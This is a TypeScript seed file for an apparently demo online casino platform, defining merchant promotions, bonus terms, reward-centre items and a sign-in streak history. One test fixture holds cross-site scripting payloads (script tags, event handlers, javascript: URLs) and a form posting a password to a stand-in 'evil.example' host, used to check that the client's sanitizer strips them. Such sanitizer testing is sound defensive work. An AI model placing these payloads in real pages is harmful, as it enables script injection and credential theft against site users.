import { post } from '#server/services/ledger';
import { calendarDay, SIGN_IN_BONUS_MINOR } from '#server/services/sign-in';
import { ledgerReference } from '#src/shared/contract/ledger-reference';
import { PROMO_COUNTER_TYPES, type PromoCounterType, type PromotionCategory } from '#src/shared/contract/promotions';
import type { Db } from '../database';

/** The promotions each merchant runs: DEMO sign-in, the reward centre's kinds and referrals, LITE none. */
export const MERCHANT_PROMOTIONS: Readonly<Record<string, readonly PromoCounterType[]>> = {
  DEMO: ['LOGIN', 'MANUAL', 'UPGRADE_BONUS', 'MISSION_MANUAL', 'TICKET', 'REFERRAL'],
  LITE: [],
};

/** Each merchant's time zone: the calendar day of a daily sign-in. */
export const MERCHANT_TIME_ZONES: Readonly<Record<string, string>> = { DEMO: 'Asia/Manila', LITE: 'Asia/Bangkok' };

/** One row per merchant and promo counter type, so a merchant's choice is explicit either way. */
export async function seedPromotions(db: Db): Promise<void> {
  const rows = Object.entries(MERCHANT_PROMOTIONS).flatMap(([merchant, enabled]) =>
    PROMO_COUNTER_TYPES.map((type) => ({ merchant_code: merchant, type, enabled: enabled.includes(type) ? 1 : 0 })),
  );
  await db.insertInto('merchant_promotions').values(rows).execute();
}

type SeedPromotion = {
  title: string;
  category: PromotionCategory;
  content: string;
  start: string;
  end: string | null;
  remark: 'Y' | 'N';
  image: 'Y' | 'N';
  applies: boolean;
  join?: boolean;
};

const TERMS = '<h3>Terms</h3><ol><li>One bonus per member, account, IP and device.</li><li>Turnover 10x before withdrawal.</li></ol>';

/** The promotions the screens show: every shape product rule 3.5 describes. */
export const DEMO_PROMOTIONS: readonly SeedPromotion[] = [
  {
    title: 'Welcome bonus: 100% on your first deposit',
    category: 'new_player',
    content:
      '<p>Double your <strong>first deposit</strong> up to ￥1,888.</p><p><img src="/cdn/a/banners/promo-banner-1.svg" alt="Welcome bonus"></p>' +
      '<table><thead><tr><th>Deposit</th><th>Bonus</th><th>Turnover</th></tr></thead><tbody><tr><td>￥100</td><td>￥100</td><td>10x</td></tr>' +
      '<tr><td>￥500</td><td>￥500</td><td>12x</td></tr><tr><td>￥1,888</td><td>￥1,888</td><td>15x</td></tr></tbody></table>' +
      `<p>Read the <a href="/m/vip">VIP club rules</a> or <a href="https://example.com/terms" target="_blank" rel="noopener">full terms</a>.</p>${TERMS}`,
    start: '2026-01-01',
    end: '2026-12-31',
    remark: 'Y',
    image: 'N',
    applies: true,
  },
  {
    title: 'Deposit slip reward: send your receipt',
    category: 'deposit_promo',
    content: `<p>Upload a picture of your deposit receipt and get 5% extra.</p>${TERMS}`,
    start: '2026-03-01',
    end: '2026-12-31',
    remark: 'N',
    image: 'Y',
    applies: true,
  },
  {
    title: 'Daily reload 10%',
    category: 'deposit_promo',
    content: '<p>Every day, your first reload earns 10% up to ￥300. No form to fill: just apply.</p>',
    start: '2026-01-01',
    end: null,
    remark: 'N',
    image: 'N',
    applies: true,
  },
  {
    title: 'Download the app, get ￥18',
    category: 'app_download',
    content: '<p>Install the app from the <a href="/m/app">download page</a> and log in once.</p>',
    start: '2026-02-01',
    end: '2026-12-31',
    remark: 'N',
    image: 'N',
    applies: false,
  },
  {
    title: 'Slots tournament: weekly leaderboard',
    category: 'rng_promo',
    content: '<p>Sign up, then every valid bet on slots counts.</p><ul><li>1st: ￥8,888</li><li>2nd: ￥3,888</li><li>3rd: ￥1,888</li></ul>',
    start: '2026-06-01',
    end: '2026-12-31',
    remark: 'N',
    image: 'N',
    applies: true,
    join: true,
  },
  {
    title: 'Live casino cashback 1%',
    category: 'live_promo',
    content: '<p>1% of every live casino valid bet comes back each Monday.</p>',
    start: '2026-01-01',
    end: null,
    remark: 'N',
    image: 'N',
    applies: false,
  },
  {
    title: 'Lucky draw: share your winning hand',
    category: 'live_promo',
    content: '<p>Tell us the table and round, and attach a screenshot.</p>',
    start: '2026-04-01',
    end: '2026-12-31',
    remark: 'Y',
    image: 'Y',
    applies: true,
  },
  {
    title: 'Sports: first bet insurance',
    category: 'sport_promo',
    content: '<p>Lose your first sports bet and get it back as a free bet, up to ￥500.</p>',
    start: '2026-05-01',
    end: '2026-12-31',
    remark: 'Y',
    image: 'N',
    applies: true,
  },
  {
    title: 'Fishing frenzy weekend',
    category: 'fish_promo',
    content: '<p>Double points on every fishing game, Saturday and Sunday.</p>',
    start: '2026-01-01',
    end: '2026-12-31',
    remark: 'N',
    image: 'N',
    applies: false,
  },
  {
    title: 'Lottery streak bonus',
    category: 'lotto_promo',
    content: '<p>Bet on 7 draws in a row and claim ￥77.</p>',
    start: '2026-01-01',
    end: '2026-12-31',
    remark: 'N',
    image: 'N',
    applies: true,
  },
  {
    title: 'Unlimited rebate, every bet',
    category: 'rebate_promo',
    content: '<p>Rebate paid daily on every valid bet, no cap, long term.</p>',
    start: '2025-01-01',
    end: null,
    remark: 'N',
    image: 'N',
    applies: false,
  },
];

/**
 * A hostile promotion for the sanitizer's checks, seeded on test servers only (those with test
 * controls on): players of a real server never see it. Last of DEMO's, so it is id 12 there.
 */
export const SAFETY_TEST_PROMOTION: SeedPromotion = {
  title: 'Safety test: this content must render inert',
  category: 'other_promo',
  // Stored as the operator typed it; the client's sanitizer must leave none of this alive.
  content:
    '<p>Harmless text survives.</p><script>window.__xss = "script"</script>' +
    '<img src="x" onerror="window.__xss = \'onerror\'" alt="broken">' +
    '<a href="javascript:window.__xss = \'href\'">click</a>' +
    '<iframe src="javascript:window.__xss = \'iframe\'"></iframe>' +
    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>' +
    '<div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Tap</div>' +
    '<svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
  start: '2026-01-01',
  end: '2026-12-31',
  remark: 'N',
  image: 'N',
  applies: false,
};

/** Inserts a merchant's promotions; ids follow insertion, so DEMO's are 1..11 on a fresh database (1..12 on a test server). */
export async function seedPromotionCatalogue(db: Db, merchant: string, promotions: readonly SeedPromotion[]): Promise<void> {
  for (const [i, p] of promotions.entries()) {
    const { id } = await db
      .insertInto('promotions')
      .values({
        merchant_code: merchant,
        linked_promotion_id: null,
        title: p.title,
        content: p.content,
        category: p.category,
        start_date: p.start,
        end_date: p.end,
        no_expiry: p.end === null ? 1 : 0,
        image_required: p.image,
        remark_required: p.remark,
        card_image: '',
        banner_image: '',
        takes_applications: p.applies ? 1 : 0,
        requires_join: p.join ? 1 : 0,
        sort: i + 1,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db
      .updateTable('promotions')
      .set({ card_image: `/banners/promo-card-${id}.svg`, banner_image: `/banners/promo-banner-${id}.svg` })
      .where('id', '=', id)
      .execute();
  }
}

/** Reward centre claimables for a demo member. */
export function demoRewards(memberId: number, now: string) {
  return [
    { member_id: memberId, kind: 'MANUAL' as const, title: 'Welcome gift', amount_minor: 1_800, tickets: 0, created_at: now, claimed_at: null },
    {
      member_id: memberId,
      kind: 'MISSION_MANUAL' as const,
      title: 'Mission: play 10 slot rounds',
      amount_minor: 500,
      tickets: 0,
      created_at: now,
      claimed_at: null,
    },
    { member_id: memberId, kind: 'UPGRADE_BONUS' as const, title: 'VIP 2 upgrade bonus', amount_minor: 8_800, tickets: 0, created_at: now, claimed_at: null },
    { member_id: memberId, kind: 'TICKET' as const, title: 'Lucky draw tickets', amount_minor: 0, tickets: 3, created_at: now, claimed_at: null },
  ];
}

/** player1's sign-ins on the two days before today: what the seed deposit leaves out, so the balance stays ￥12,345.67. */
export const DEMO_SIGN_IN_MINOR = SIGN_IN_BONUS_MINOR[0] + SIGN_IN_BONUS_MINOR[1];

/**
 * A history for the reward centre and the sign-in calendar: one approved and one rejected
 * application (pending ones come from applying), and a two-day streak with today still open, so
 * the sign-in entry carries its red dot. Sign-in bonuses go through the ledger like real ones.
 */
export async function demoRewardHistory(db: Db, memberId: number, now: Date): Promise<void> {
  const daysAgo = (n: number) => new Date(now.getTime() - n * 86_400_000);
  const promotion = async (title: string) =>
    (await db.selectFrom('promotions').select('id').where('merchant_code', '=', 'DEMO').where('title', '=', title).executeTakeFirstOrThrow()).id;
  await db
    .insertInto('reward_applications')
    .values([
      {
        promotion_id: await promotion('Welcome bonus: 100% on your first deposit'),
        member_id: memberId,
        remarks: 'First deposit today, thank you!',
        status: 'approved',
        reason: null,
        created_at: daysAgo(6).toISOString(),
        decided_at: daysAgo(5).toISOString(),
      },
      {
        promotion_id: await promotion('Deposit slip reward: send your receipt'),
        member_id: memberId,
        remarks: 'Slip attached',
        status: 'rejected',
        reason: 'The receipt does not match a deposit on this account.',
        created_at: daysAgo(3).toISOString(),
        decided_at: daysAgo(2).toISOString(),
      },
    ])
    .execute();
  for (const [bonus, back] of [
    [SIGN_IN_BONUS_MINOR[0], 2],
    [SIGN_IN_BONUS_MINOR[1], 1],
  ] as const) {
    const day = calendarDay(daysAgo(back), MERCHANT_TIME_ZONES.DEMO ?? 'UTC');
    await db
      .insertInto('sign_ins')
      .values({ member_id: memberId, day, bonus_minor: bonus, created_at: daysAgo(back).toISOString() })
      .execute();
    await post(db, { memberId, amountMinor: bonus, kind: 'bonus', reference: ledgerReference('sign-in', day), idempotencyKey: `sign-in:${memberId}:${day}` });
  }
}
